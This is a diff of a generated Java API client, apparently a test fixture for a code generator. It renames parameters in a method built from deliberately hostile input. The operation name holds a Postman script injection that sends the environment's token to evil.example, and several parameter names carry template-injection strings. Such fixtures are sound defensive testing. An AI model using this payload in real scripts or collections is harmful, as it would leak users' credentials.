@@ -26,17 +26,18 @@ public final class ProtoApi {
    * @param hostileToken the parameter hostile_token
    * @param aB the parameter a.b
    * @param x the parameter x
-   * @param hostileToken2 the parameter {{hostile_token}}&#38;=#
+   * @param hostileTokenQuery the parameter {{hostile_token}}&#38;=#
    * @param xHostileToken the parameter X-{{hostile_token}}
    * @param xFine the parameter X-Fine
-   * @param hostileToken3 the parameter {{hostile_token}}
+   * @param hostileTokenCookie the parameter {{hostile_token}}
    * @param body the content
    * @throws IOException if the API refuses or cannot be reached
    */
   public void pmSendRequestHttpsEvilExamplePmEnvironmentGetToken(String hostileToken, String aB,
-      String x, String hostileToken2, String xHostileToken, String xFine, String hostileToken3,
-      PmSendRequestHttpsEvilExamplePmEnvironmentGetTokenRequest body) throws IOException {
-    pmSendRequestHttpsEvilExamplePmEnvironmentGetTokenCall(hostileToken, aB, x, hostileToken2, xHostileToken, xFine, hostileToken3, body).send();
+      String x, String hostileTokenQuery, String xHostileToken, String xFine,
+      String hostileTokenCookie, PmSendRequestHttpsEvilExamplePmEnvironmentGetTokenRequest body)
+      throws IOException {
+    pmSendRequestHttpsEvilExamplePmEnvironmentGetTokenCall(hostileToken, aB, x, hostileTokenQuery, xHostileToken, xFine, hostileTokenCookie, body).send();
   }
 
   /**
@@ -45,18 +46,18 @@ public final class ProtoApi {
    * @param hostileToken the parameter hostile_token
    * @param aB the parameter a.b
    * @param x the parameter x
-   * @param hostileToken2 the parameter {{hostile_token}}&#38;=#
+   * @param hostileTokenQuery the parameter {{hostile_token}}&#38;=#
    * @param xHostileToken the parameter X-{{hostile_token}}
    * @param xFine the parameter X-Fine
-   * @param hostileToken3 the parameter {{hostile_token}}
+   * @param hostileTokenCookie the parameter {{hostile_token}}
    * @param body the content
    * @return what the API answers, when it is there
    */
   public CompletableFuture<Void> pmSendRequestHttpsEvilExamplePmEnvironmentGetTokenAsync(
-      String hostileToken, String aB, String x, String hostileToken2, String xHostileToken,
-      String xFine, String hostileToken3,
+      String hostileToken, String aB, String x, String hostileTokenQuery, String xHostileToken,
+      String xFine, String hostileTokenCookie,
       PmSendRequestHttpsEvilExamplePmEnvironmentGetTokenRequest body) {
-    return pmSendRequestHttpsEvilExamplePmEnvironmentGetTokenCall(hostileToken, aB, x, hostileToken2, xHostileToken, xFine, hostileToken3, body).sendAsync();
+    return pmSendRequestHttpsEvilExamplePmEnvironmentGetTokenCall(hostileToken, aB, x, hostileTokenQuery, xHostileToken, xFine, hostileTokenCookie, body).sendAsync();
   }
 
   /**
@@ -65,17 +66,17 @@ public final class ProtoApi {
    * @return the call, not sent yet
    */
   public Call<Void> pmSendRequestHttpsEvilExamplePmEnvironmentGetTokenCall(String hostileToken,
-      String aB, String x, String hostileToken2, String xHostileToken, String xFine,
-      String hostileToken3, PmSendRequestHttpsEvilExamplePmEnvironmentGetTokenRequest body) {
+      String aB, String x, String hostileTokenQuery, String xHostileToken, String xFine,
+      String hostileTokenCookie, PmSendRequestHttpsEvilExamplePmEnvironmentGetTokenRequest body) {
     return client.call("'); pm.sendRequest('https://evil.example/' + pm.environment.get('token')); //", "POST", "/{{hostile_token}}/:colon/{a.b}/{x}:cancel/\u00fc", AcmeHostileSecurity.NEEDS_TOKEN, Answer.none())
         .with(new Parameters()
         .path("hostile_token", Parameters.required("hostile_token", hostileToken))
         .path("a.b", Parameters.required("a.b", aB))
         .path("x", Parameters.required("x", x))
-        .query("{{hostile_token}}&=#", Parameters.required("{{hostile_token}}&=#", hostileToken2))
+        .query("{{hostile_token}}&=#", Parameters.required("{{hostile_token}}&=#", hostileTokenQuery))
         .header("X-{{hostile_token}}", Parameters.required("X-{{hostile_token}}", xHostileToken))
         .header("X-Fine", Parameters.required("X-Fine", xFine))
-        .cookie("{{hostile_token}}", Parameters.required("{{hostile_token}}", hostileToken3)))
+        .cookie("{{hostile_token}}", Parameters.required("{{hostile_token}}", hostileTokenCookie)))
         .json("application/json", Parameters.required("body", body));
   }
 }
